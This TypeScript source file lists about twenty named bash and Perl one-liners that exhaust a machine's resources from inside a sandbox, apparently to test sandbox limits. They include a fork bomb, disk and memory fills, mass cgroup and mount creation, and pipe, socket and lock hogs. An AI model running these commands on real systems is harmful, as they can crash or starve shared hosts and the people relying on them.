/** Ways to use up a machine from inside a sandbox, each a bash script that goes on until it is killed, or ends by itself where the sandbox's limits stop it. */

const again = (script: string) => `while :; do ${script}; done`;
const perl = (program: string) => `exec perl -e '${program}'`;

export const RESOURCE_ATTACKS: Readonly<Record<string, string>> = {
  "fork bomb": perl("while (1) { fork }"),
  "processes that come and go": again("/bin/true & /bin/true & wait"),
  "memory hog": again("tail /dev/zero"),
  "tmpfs hog": "mount -t tmpfs -o size=8g none /mnt; exec head -c 4G /dev/zero > /mnt/big",
  "/dev/shm hog": "mount -o remount,size=8g /dev/shm; exec head -c 4G /dev/zero > /dev/shm/big",
  "disk fill": again("head -c 4G /dev/zero > /root/big; rm -f /root/big"),
  "dirty pages": again("dd if=/dev/zero of=/root/dirty bs=1M count=256 conv=notrunc; sync /root/dirty"),
  "a million files": "mkdir -p /root/many; cd /root/many; i=0; while :; do touch $((i++))-{0..999} || exit; done",
  "directories without end": perl("chdir q(/root); while (mkdir q(d)) { chdir q(d) or last } sleep 1 while 1"),
  "ten thousand cgroups": perl(
    "my ($top) = grep { -w $_ } (q(/sys/fs/cgroup/memory), q(/sys/fs/cgroup/pids), q(/sys/fs/cgroup)); for (1..10000) { mkdir qq($top/c$_) or last } sleep 1 while 1",
  ),
  "ten thousand mounts": "unshare -m bash -c 'mkdir -p /tmp/m; for i in {1..10000}; do mount -t tmpfs none /tmp/m || exit; done'",
  "mounts that double":
    "unshare -m bash -c 'mount -t tmpfs none /mnt; mkdir /mnt/a; for i in {1..40}; do mount --rbind / /mnt/a || exit; done'",
  "network namespaces": again("unshare -n true"),
  "pipe hog": perl(
    "use Fcntl; while (1) { pipe(my $r, my $w) or (sleep 1, next); fcntl($w, 1031, 1048576); fcntl($w, F_SETFL, O_NONBLOCK); syswrite $w, q(x) x 1048576; push @p, $r, $w }",
  ),
  "socket hog": perl(
    "use Socket; use Fcntl; while (1) { socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) or (sleep 1, next); setsockopt($a, SOL_SOCKET, SO_SNDBUF, 1 << 26); fcntl($a, F_SETFL, O_NONBLOCK); 1 while syswrite($a, q(x) x 65536); push @s, $a, $b }",
  ),
  "inotify hog": "exec tail --follow=name --retry /proc/*/status /etc/* /usr/bin/* /usr/lib/*",
  "negative dentries": perl("while (1) { stat(q(/root/) . rand() . rand()) }"),
  "kernel memory by message queues": again("ipcmk --queue"),
  locks: perl(
    "use Fcntl; open F, q(>/root/lock); my $i = 0; while (1) { fcntl(F, F_SETLK, pack(q(ssx4qqi), F_WRLCK, 0, 2 * $i++, 1, 0)) }",
  ),
  "CPU burn": again(":"),
  "signals and timers": perl("use Time::HiRes; $SIG{ALRM} = sub { $n++ }; Time::HiRes::setitimer(0, 0.0001, 0.0001); 1 while 1"),
};
